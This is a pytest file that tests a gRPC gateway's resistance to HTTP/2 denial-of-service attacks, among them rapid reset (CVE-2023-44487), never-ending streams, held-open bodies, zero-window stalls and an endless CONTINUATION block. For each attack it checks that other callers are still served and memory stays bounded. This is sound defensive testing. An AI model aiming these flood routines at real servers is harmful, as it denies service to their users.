"""Attacks on gRPC's HTTP/2 by somebody who holds a certificate, and on the port by somebody who does not.

Each has a gateway of its own, to which another caller keeps a connection and makes calls all the time. Whatever the attack
does: these calls succeed, so does one on a new connection, the process lives, its memory stays below a bound, and nobody is
created twice. How long it took and what it cost is printed (pytest -rP) for docs/threat-model.md.
"""

import concurrent.futures
import contextlib
import os
import threading
import time

import grpc
import pytest

from support import canary
from support.check import assert_posts
from support.people import person
from support.process import wait_for
from support.protos import CREATE, GET
from support import http2
from support.http2 import (CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, call, frame, headers,
                           literal, message, setting)

# Less than what a container of 256 MiB has beside the kernel's buffers. Sanitizers need several times the memory.
BOUND_MB = float(os.environ.get("E2E_MEMORY_BOUND", "200"))

CANCEL = b"\0\0\0\x08"


class Siege:
    def __init__(self, gateway, authority, sandbox, attacker):
        self.gateway, self.authority, self.sandbox, self.attacker = gateway, authority, sandbox, attacker
        self.address = gateway.address
        key, certificate = authority.issue("neighbour", ["DNS:neighbour.example.test"])
        self._credentials = grpc.ssl_channel_credentials(authority.ca_file.read_bytes(), key.read_bytes(),
                                                         certificate.read_bytes())
        self._channel = gateway.new_channel(self._credentials)
        self._open = contextlib.ExitStack()
        self._calls = []  # (request, seconds, reply) of the other caller
        self._over = threading.Event()
        self._call(self._channel)  # the connection stands
        self._before = self._cpu()
        self._began = time.monotonic()
        self._neighbour = threading.Thread(target=self._keep_calling)
        self._neighbour.start()

    def _call(self, channel):
        request, began = person(), time.monotonic()
        reply = self.gateway.create(request, channel=channel)
        self._calls.append((request, time.monotonic() - began, reply))
        return reply

    def _keep_calling(self):
        while not self._over.is_set():
            self._call(self._channel)
            self._over.wait(0.1)

    def _cpu(self):
        with open(f"/proc/{self.gateway.process.pid}/stat") as file:
            fields = file.read().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def memory(self, name="VmRSS"):
        """In MB; VmHWM: the highest so far."""
        with open(f"/proc/{self.gateway.process.pid}/status") as file:
            return next(int(line.split()[1]) for line in file if line.startswith(name)) / 1000

    def connection(self, **more):
        return self._open.enter_context(http2.Connection(self.address, self.attacker, **more))

    def lift(self):
        """The end of the attack: connections that are still open stay so until the others were served."""
        self.gateway.assert_alive()
        attack = time.monotonic() - self._began
        self._call(self._channel)
        began = time.monotonic()
        wait_for(lambda: self._call(self.gateway.new_channel(self._credentials)).response, "a call on a new connection")
        anew = time.monotonic() - began
        self._over.set()
        self._neighbour.join()
        peak, end = self.memory("VmHWM"), self.memory()
        self._open.close()
        print(f"attack {attack:.1f} s, CPU {self._cpu() - self._before:.1f} s, RSS peak {peak:.0f} MB, at the end "
              f"{end:.0f} MB; others: {len(self._calls)} calls, slowest {max(s for _, s, _ in self._calls):.2f} s, "
              f"new connection {anew:.2f} s")
        self.gateway.assert_alive()
        served = [(request, reply) for request, _, reply in self._calls if reply.response is not None]
        # On a new connection a refusal may come first; on the one that stands none may.
        assert len(self._calls) - len(served) <= len(self._calls) // 10, [reply for _, _, reply in self._calls]
        for request, _ in served:
            assert_posts(self.sandbox, request.email, 1)
        assert peak < BOUND_MB, f"memory rose to {peak:.0f} MB"


def secured_flags(authority):
    key, certificate = authority.issue("gateway", ["DNS:localhost", "IP:127.0.0.1"])
    return dict(tls_cert_file=certificate, tls_key_file=key, tls_client_ca_file=authority.ca_file)


@pytest.fixture(scope="module")
def attacker(authority):
    return http2.Identity(authority)


@pytest.fixture
def besiege(new_gateway, authority, sandbox, attacker):
    """Makes the gateway, and ends the attack with the test."""
    made = []

    def make(**flags):
        made.append(Siege(new_gateway(**{**secured_flags(authority), **flags}), authority, sandbox, attacker))
        return made[-1]

    yield make
    for one in made:
        one.lift()


@pytest.fixture
def siege(besiege):
    return besiege()


def streams(count, first=1):
    return range(first, first + 2 * count, 2)


def pour(connection, pieces, at_once=200):
    """Sends until the server ends it, or all are out; how many were taken."""
    sent, batch = 0, []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == at_once:
            if not connection.send(b"".join(batch)):
                return sent
            sent += len(batch)
            batch = []
    return sent + len(batch) if connection.send(b"".join(batch)) else sent


# -- calls that come and do not end ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("path, count", [(CREATE, 100_000), ("/x.Nothing/Y", 30_000)], ids=["creates", "unknown method"])
def test_rapid_reset(siege, sandbox, path, count):
    """Calls that are reset as soon as they were made, without waiting (CVE-2023-44487)."""
    requests = [person() for _ in range(20)]
    for request in requests:
        canary.record(request)
    bodies = [message(request.SerializeToString()) for request in requests]
    block = headers(path)
    connection = siege.connection()
    sent = pour(connection, (call(stream, block, bodies[stream // 2 % len(bodies)]) + frame(RST_STREAM, 0, stream, CANCEL)
                             for stream in streams(count)))
    print(f"{sent} calls taken, {connection.goaways}")
    for request in requests:
        assert len(sandbox.posts(request.email)) <= 1


def test_streams_that_never_end(siege):
    """50,000 calls that begin and say nothing more; the server's settings are never acknowledged."""
    connection = siege.connection()
    block = headers(CREATE)
    sent = pour(connection, (frame(HEADERS, END_HEADERS, stream, block) for stream in streams(50_000)))
    print(f"{sent} streams taken, {connection.goaways}")


def test_open_bodies(siege):
    """13 connections, each with as many unfinished requests of nearly 64 KiB as the server takes."""
    body = message(b"x" * 16_000, length=65_000)
    block = headers(CREATE)
    more = frame(DATA, 0, 0, b"x" * 16_000)

    def attack(connection):
        with contextlib.suppress(OSError):
            # The window of the whole connection is what the server gives; it is read and given again.
            for stream in streams(500):
                if not connection.send(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, body) +
                                       b"".join([more[:5] + stream.to_bytes(4, "big") + more[9:]] * 3)):
                    return

    connections = [siege.connection(timeout=3) for _ in range(13)]
    with concurrent.futures.ThreadPoolExecutor(13) as pool:
        list(pool.map(attack, connections))
    print(f"{sum(one.sent for one in connections) / 1e6:.0f} MB taken, {sum(one.ended for one in connections)} ended")


def test_answers_that_may_not_be_sent(siege):
    """20,000 calls whose answers have no window to be sent in."""
    connection = siege.connection(first_settings=setting(INITIAL_WINDOW_SIZE, 0))
    block, body = headers(GET), message(b"\x0a\x24" + b"0" * 36)
    sent = pour(connection, (call(stream, block, body) for stream in streams(20_000)))
    print(f"{sent} calls taken, {connection.goaways}")


def test_endless_continuation(siege):
    """200 MB of a header block that never ends."""
    connection = siege.connection()
    connection.send(frame(HEADERS, 0, 1, headers(CREATE)))
    piece = frame(CONTINUATION, 0, 1, literal(b"x1", b"y" * 100) * 150)
    pour(connection, (piece for _ in range(200_000_000 // len(piece))), at_once=10)
    print(f"{connection.sent / 1e6:.1f} MB taken, {connection.goaways}")
